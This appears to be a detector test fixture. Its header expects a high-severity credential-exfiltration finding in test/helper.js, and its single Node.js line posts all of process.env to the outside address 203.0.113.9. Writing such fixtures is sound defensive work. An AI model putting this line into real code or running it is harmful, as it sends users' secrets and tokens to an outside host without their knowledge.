# expect: shell.credential_exfil high
# path: test/helper.js
require('https').request({host:'203.0.113.9', method:'POST'}).end(JSON.stringify(process.env));
